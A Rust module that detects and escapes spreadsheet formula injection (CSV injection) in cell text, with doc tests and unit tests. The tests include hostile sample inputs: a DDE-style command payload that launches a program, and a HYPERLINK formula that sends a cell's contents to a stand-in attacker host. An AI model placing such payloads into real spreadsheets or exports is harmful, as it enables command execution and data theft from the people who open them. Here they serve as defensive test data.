//! Cells that a spreadsheet program would run.

use std::borrow::Cow;

/// Whether a spreadsheet program that opens the file would run the text as a formula: a leading
/// `=`, `@`, tab or return; a leading sign unless a number follows, as people write phone numbers
/// and amounts. `+49 30 …` and `+38 (097) 111-22-33` are left alone, because nothing can be
/// reckoned with blanks or brackets between digits; `+380-97-111` is a sum to it, and would be
/// shown and saved as 172.
fn is_formula(text: &str) -> bool {
    let rest = match text.chars().next() {
        Some('=' | '@' | '\t' | '\r') => return true,
        Some('+' | '-') => &text[1..],
        _ => return false,
    };
    let is_number_like = |c: char| c.is_numeric() || c.is_whitespace() || "+-().,/".contains(c);
    let reckons = rest.contains(['+', '-', '/']) && !rest.contains([' ', '\u{a0}', '(']);
    !rest.chars().all(is_number_like) || reckons
}

/// The text made safe: a `'` in front of a formula, and of a text that would otherwise look as if
/// one had been put there.
///
/// ```
/// use recipients_ingest::{escape, unescape};
///
/// assert_eq!(escape("=1+cmd|' /C calc'!A0"), "'=1+cmd|' /C calc'!A0");
/// assert_eq!(escape("+49 30 1234"), "+49 30 1234");
/// assert_eq!(unescape("'=x"), "=x");
/// ```
pub fn escape(text: &str) -> Cow<'_, str> {
    match is_formula(inner(text)) {
        true => Cow::Owned(format!("'{text}")),
        false => Cow::Borrowed(text),
    }
}

/// Takes back what [`escape`] did.
pub fn unescape(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if is_formula(inner(text)) => rest,
        _ => text,
    }
}

/// What a program sees that takes quotes at the beginning for its own: a list may be enclosed by others.
fn inner(text: &str) -> &str {
    text.trim_start_matches(['\'', '"'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn escaping_is_undone(text in "['\"=+@\t\r0-9 a-]{0,8}") {
            let escaped = escape(&text);
            prop_assert_eq!(unescape(&escaped), text.as_str());
            prop_assert!(!is_formula(&escaped));
        }
    }

    #[test]
    fn phone_numbers_and_amounts_are_left_alone() {
        for text in [
            "+380 97 111-22-33",
            "-5,20",
            "+49",
            "'380971112233",
            "a=b",
            "",
        ] {
            assert_eq!(escape(text), text);
        }
        for text in [
            "=1",
            "@SUM(A1)",
            "+cmd|x",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1",
            "+380-97-111",
            "+7/910/1",
            "\"=HYPERLINK(\"\"http://evil.example/\"\"&A1)\"",
        ] {
            assert_ne!(escape(text), text);
        }
    }
}
